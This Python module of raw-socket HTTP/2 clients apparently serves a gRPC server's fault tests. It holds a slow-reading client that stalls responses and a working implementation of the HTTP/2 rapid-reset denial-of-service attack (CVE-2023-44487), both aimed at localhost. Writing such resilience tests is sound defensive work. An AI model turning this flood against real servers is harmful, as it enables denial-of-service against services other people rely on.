"""Bare-socket HTTP/2 clients the fault tests need and no gRPC client can be made to be.

They speak just enough HTTP/2 for unary gRPC calls: the preface, SETTINGS, an ACK of the
server's SETTINGS, HEADERS frames (HPACK literals without indexing, no Huffman, no dynamic
table), the request in one DATA frame, and RST_STREAM.

- `stuck_call`: the slow-reading client. Its SETTINGS give an initial flow-control window of
  0 (the server may not send the response's body) and it then reads nothing at all, so the
  server's writes pile up in its own buffers until the call's `grpc-timeout` passes or the
  socket is closed.
- `RapidReset`: the HTTP/2 rapid-reset attack (CVE-2023-44487) on one connection: each
  stream is opened (HEADERS), given its request (DATA) and cancelled at once (RST_STREAM
  CANCEL), as fast as the socket takes them. A thread reads and discards what the server
  sends and notes a GOAWAY, so that the server's writes never block on this client.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import threading

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x7
_END_STREAM, _ACK, _END_HEADERS = 0x1, 0x1, 0x4
_INITIAL_WINDOW_SIZE = 0x4
_CANCEL = 0x8  # RST_STREAM error code
_MAX_STREAM_ID = (1 << 31) - 1


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


def _integer(value: int) -> bytes:
    """HPACK's integer with a 7-bit prefix (the H bit, no Huffman, left 0)."""
    if value < 127:
        return bytes([value])
    out, value = bytearray([127]), value - 127
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def _header(name: str, value: str) -> bytes:
    """A literal header field without indexing, new name."""
    raw_name, raw_value = name.encode(), value.encode()
    return b"\x00" + _integer(len(raw_name)) + raw_name + _integer(len(raw_value)) + raw_value


def _request_headers(port: int, method: str, timeout_s: float) -> bytes:
    """The HPACK block of a unary gRPC call to /`method` with a `grpc-timeout`."""
    return b"".join(
        _header(name, value)
        for name, value in (
            (":method", "POST"),
            (":scheme", "http"),
            (":path", f"/{method}"),
            (":authority", f"127.0.0.1:{port}"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            ("grpc-timeout", f"{int(timeout_s * 1000)}m"),
        )
    )


def _message(request: bytes) -> bytes:
    """A gRPC length-prefixed message, uncompressed."""
    return b"\x00" + struct.pack(">I", len(request)) + request


def stuck_call(port: int, method: str, request: bytes, timeout_s: float) -> socket.socket:
    """Start a call to /`method` on 127.0.0.1:`port` that will never read its response; the
    returned socket stays open until the caller closes it."""
    sock = socket.create_connection(("127.0.0.1", port))
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    settings = struct.pack(">HI", _INITIAL_WINDOW_SIZE, 0)
    sock.sendall(
        _PREFACE
        + _frame(_SETTINGS, 0, 0, settings)
        + _frame(_SETTINGS, _ACK, 0, b"")
        + _frame(_HEADERS, _END_HEADERS, 1, _request_headers(port, method, timeout_s))
        + _frame(_DATA, _END_STREAM, 1, _message(request))
    )
    return sock


class RapidReset:
    """One HTTP/2 connection to 127.0.0.1:`port` that opens and at once resets streams, each a
    call to /`method` carrying `request` (see the module's docstring)."""

    def __init__(self, port: int, method: str, request: bytes, timeout_s: float = 30.0) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self._headers = _request_headers(port, method, timeout_s)
        self._body = _message(request)
        self._next_stream = 1
        self.goaway = threading.Event()  # the server sent GOAWAY
        self.closed = threading.Event()  # the server closed the connection
        self.sent = 0  # streams sent in full (HEADERS, DATA and RST_STREAM)
        self.sock.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b"") + _frame(_SETTINGS, _ACK, 0, b""))
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def _read(self) -> None:
        """Read everything the server sends; note GOAWAY frames (whole-frame parsing)."""
        pending = b""
        try:
            while True:
                chunk = self.sock.recv(1 << 16)
                if not chunk:
                    break
                pending += chunk
                while len(pending) >= 9:
                    length = int.from_bytes(pending[:3], "big")
                    if len(pending) < 9 + length:
                        break
                    if pending[3] == _GOAWAY:
                        self.goaway.set()
                    pending = pending[9 + length :]
        except OSError:
            pass
        self.closed.set()

    def _stream(self) -> bytes:
        stream = self._next_stream
        self._next_stream += 2
        return (
            _frame(_HEADERS, _END_HEADERS, stream, self._headers)
            + _frame(_DATA, _END_STREAM, stream, self._body)
            + _frame(_RST_STREAM, 0, stream, struct.pack(">I", _CANCEL))
        )

    def flood(self, streams: int, per_write: int = 100) -> int:
        """Open and reset `streams` streams, `per_write` to a write; returns how many were
        sent before the server closed the connection (all of them if it did not)."""
        sent = 0
        while sent < streams and self._next_stream + 2 * per_write < _MAX_STREAM_ID:
            count = min(per_write, streams - sent)
            try:
                self.sock.sendall(b"".join(self._stream() for _ in range(count)))
            except OSError:  # reset or closed by the server
                break
            sent += count
        self.sent += sent
        return sent

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.shutdown(socket.SHUT_RDWR)
        self.sock.close()
        self._reader.join(timeout=5)

    def __enter__(self) -> RapidReset:
        return self

    def __exit__(self, *_: object) -> None:
        self.close()
